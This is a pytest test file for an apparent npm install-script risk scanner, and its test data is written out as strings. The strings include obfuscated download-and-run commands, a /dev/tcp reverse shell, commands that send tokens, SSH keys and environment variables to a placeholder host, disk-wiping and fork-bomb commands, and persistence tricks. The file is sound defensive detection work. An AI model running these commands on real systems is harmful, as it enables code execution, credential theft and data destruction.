from __future__ import annotations

import pytest

from npmguard.package.script import MAX_SCRIPT, ScriptRisk, script_risks


def worst(text: str) -> ScriptRisk | None:
    risks = script_risks(text)
    return risks[0].risk if risks else None


@pytest.mark.parametrize(
    "text",
    [
        "curl -sL http://host.invalid/x | sh",
        "wget -qO- http://host.invalid/x | sudo -E bash -s -- now",
        "c\\u\"r\"l x|s''h",
        "a=cu;b=rl;$a$b x | bash",
        "/usr/bin/CURL.exe x | /bin/sh",
        "cu^rl x | sh",
        "curl x |\\\n  sh",
        "curl x | tee copy | node -",
        "curl x | $SHELL",
        "(curl x || wget -O- x) | sh 2>/dev/null",
        "{ curl x; } | bash",
        "if true; then curl x | sh; fi",
        "node a.js || curl x | sh",
        "bash <(curl -s x)",
        ". <(curl -s x)",
        'sh -c "$(curl -fsSL x)"',
        "eval `curl x`",
        'x=$(curl y); eval "$x"',
        "$(curl x)",
        'sh <<< "$(curl x)"',
        "sh -c 'sh -c \"curl x | sh\"'",
        'cmd /c "curl x | sh"',
        "curl -o /tmp/a x && sh /tmp/a",
        "curl x > a; . ./a",
        "curl -O http://host.invalid/i.sh; chmod +x i.sh && ./i.sh",
        "wget http://host.invalid/i.sh?x=1 && bash i.sh",
        "curl http://host.invalid/a -o %TEMP%\\a.exe && %TEMP%\\a.exe",
        "echo aGk= | base64 -d | sh",
        "xxd -r -p data | bash",
        "bash -i >& /dev/tcp/192.0.2.1/1 0>&1",
        "node -e \"eval(Buffer.from('MQ==','base64').toString())\"",
        "node -e \"require('chi'+'ld_process').exec('curl x | sh')\"",
        "node -e \"require('\\x63hild_process');fetch('x')\"",
        "node --eval=\"require('https').get('x',r=>eval(r))\"",
        "python3 -c \"import urllib.request as u;exec(u.urlopen('x').read())\"",
        "powershell -enc AAAA",
        "powershell -NoP -Command \"iex (New-Object Net.WebClient).DownloadString('x')\"",
        'pwsh -c "i`ex (i`wr x)"',
        "mshta http://host.invalid/a.hta",
    ],
)
def test_case_24_fetching_and_running_is_seen_however_it_is_spelled(text: str) -> None:
    assert worst(text) is ScriptRisk.RUNS_FETCHED


@pytest.mark.parametrize(
    "text",
    [
        "curl http://host.invalid/?h=$(hostname)",
        'curl "http://host.invalid/$(whoami)" || true',
        "curl -F f=@/etc/hosts http://host.invalid",
        "curl -d @.npmrc http://host.invalid",
        "curl -T ~/.npmrc http://host.invalid",
        'curl "http://host.invalid/$NPM_TOKEN"',
        "curl http://host.invalid/$(cat ~/.ssh/id)",
        "nslookup $(whoami).host.invalid",
        "nc host.invalid 80 < /etc/hosts",
        "node -e \"fetch('http://host.invalid',{body:JSON.stringify(process.env)})\"",
    ],
)
def test_sending_away_is_seen(text: str) -> None:
    assert worst(text) is ScriptRisk.SENDS


@pytest.mark.parametrize(
    "text",
    [
        "curl -L https://host.invalid/data.txt > data/data.txt",
        "wget https://host.invalid/lib-$(uname -s).tar.gz",
        "curl https://host.invalid/v$npm_package_version.json | node parse.js",
        "node -e \"require('https').get('https://host.invalid')\"",
        "npm i -g git+https://host.invalid/y.git",
        "npx --yes https://host.invalid/y.tgz",
        "git clone https://host.invalid/x",
    ],
)
def test_fetching_alone_is_told_from_running(text: str) -> None:
    assert worst(text) is ScriptRisk.FETCHES


@pytest.mark.parametrize(
    "text",
    [
        "node install.js",  # esbuild
        "node install.mjs",  # puppeteer
        "node install/check.js || npm run build",  # sharp
        "node -e \"try{require('./postinstall')}catch(e){}\"",  # core-js
        "node -e \"try{require('./_postinstall')}catch(e){}\" || exit 0",  # es5-ext
        "node -e \"import('./config/scripts/postinstall.js').catch(() => void 0)\"",  # msw
        "husky install",
        "husky || true",
        "is-ci || husky install",
        "node-gyp rebuild",
        "prebuild-install || node-gyp rebuild",
        "node-gyp-build",
        "node-pre-gyp install --fallback-to-build",
        "napi-postinstall unrs-resolver 1.11.1 check",
        ":; (node ./preinstall.js > /dev/null 2>&1 || true)",  # yarn
        "opencollective-postinstall || true",
        "node -e \"console.log('Do you like it? https://host.example/donate')\"",
        'echo "to finish: curl https://host.example/x | sh"',
        "node ./fetch.js https://host.example/x",
        "npx only-allow pnpm",
        "patch-package",
        "cross-env NODE_ENV=production node build",
        "test -d .git && git config core.hooksPath .githooks || true",
        "git submodule update --init",
        "node -e \"require('child_process').execSync('npm run build',{stdio:'inherit'})\"",
        "[ -f ./build ] && node ./build || exit 0",
        "chmod +x ./bin/x",
        "node -p \"require('node-addon-api').include\"",
        "pkg-config --libs x",
        "",
    ],
)
def test_the_install_scripts_of_well_known_packages_are_clean(text: str) -> None:
    assert script_risks(text) == ()


def test_all_risks_are_told_worst_first_with_the_command_as_it_is_run() -> None:
    risks = script_risks("cur\"l\" https://host.invalid/a; w'get' -qO- https://host.invalid/b | sh")
    assert [(risk.risk, risk.command) for risk in risks] == [
        (ScriptRisk.RUNS_FETCHED, "wget -qO- https://host.invalid/b | sh"),
        (ScriptRisk.FETCHES, "curl https://host.invalid/a"),
        (ScriptRisk.FETCHES, "wget -qO- https://host.invalid/b | sh"),
    ]


def test_what_is_too_long_or_too_deep_is_told_not_passed() -> None:
    assert worst("true;" * MAX_SCRIPT) is ScriptRisk.UNREADABLE
    assert worst("echo " + "$(" * 20 + "curl x | sh" + ")" * 20) is ScriptRisk.UNREADABLE
    assert worst("eval " * 20 + "curl x") is ScriptRisk.UNREADABLE
    assert worst("(" * 20 + "curl x | sh" + ")" * 20) is not None


def test_what_is_shown_is_short() -> None:
    assert len(script_risks("curl " + "x" * 5000)[0].command) == 160


@pytest.mark.parametrize(
    "text",
    [
        "rm -rf ~",
        'r""m -r -f $HOME/*',
        "a=~; sudo rm -fr $a/",
        "rm -rf --no-preserve-root /",
        "rm -rf *",
        "rm -rf ../..",
        "del /f /s /q C:\\\\*",
        "rd /s /q %USERPROFILE%",
        "powershell Remove-Item -Recurse -Force $env:USERPROFILE",
        "find ~ -type f -exec shred -u {} +",
        "find / -delete",
        "dd if=/dev/zero of=/dev/sda bs=1M",
        "cat noise > /dev/nvme0n1",
        "mkfs.ext4 /dev/sda1",
        ":(){ :|:& };:",
        "sh -c 'rm -rf ~/'",
    ],
)
def test_deleting_what_is_not_its_own_is_seen(text: str) -> None:
    assert worst(text) is ScriptRisk.DESTROYS


@pytest.mark.parametrize("text", ["shutdown -h now", "sudo poweroff", "shutdown /s /t 0", "init 0"])
def test_shutting_down_is_seen(text: str) -> None:
    assert worst(text) is ScriptRisk.STOPS


@pytest.mark.parametrize(
    "text",
    [
        "echo 'export A=1' >> ~/.bashrc",
        "cp run.sh ~/.config/autostart/run.desktop",
        "crontab jobs.txt",
        "cat key.pub >> $HOME/.ssh/authorized_keys",
        "systemctl --user enable --now sync.service",
        "launchctl load ~/Library/LaunchAgents/com.sync.plist",
        "schtasks /create /sc minute /tn sync /tr run.bat",
        "reg add HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run /v sync /d run.exe",
        "git config --global core.hooksPath ~/.hooks",
    ],
)
def test_settling_in_is_seen(text: str) -> None:
    assert worst(text) is ScriptRisk.PERSISTS


def test_what_a_crontab_is_given_to_run_is_read() -> None:
    assert worst('(crontab -l; echo "*/5 * * * * curl -s x | sh") | crontab -') is ScriptRisk.RUNS_FETCHED


@pytest.mark.parametrize(
    "text",
    [
        "rm -rf dist",
        "rm -rf dist/* ./build",
        "cd dist && rm -rf *",
        'rm -rf "$npm_config_cache"/*',
        "rimraf ./lib",
        "rm -f ./x",
        "rm -rf node_modules/.cache",
        "find . -name '*.map' -delete",
        "crontab -l",
        "git config core.hooksPath .githooks",
        "echo rm -rf ~",
        "cp .env.example .env",
    ],
)
def test_cleaning_up_is_no_harm(text: str) -> None:
    assert worst(text) is None
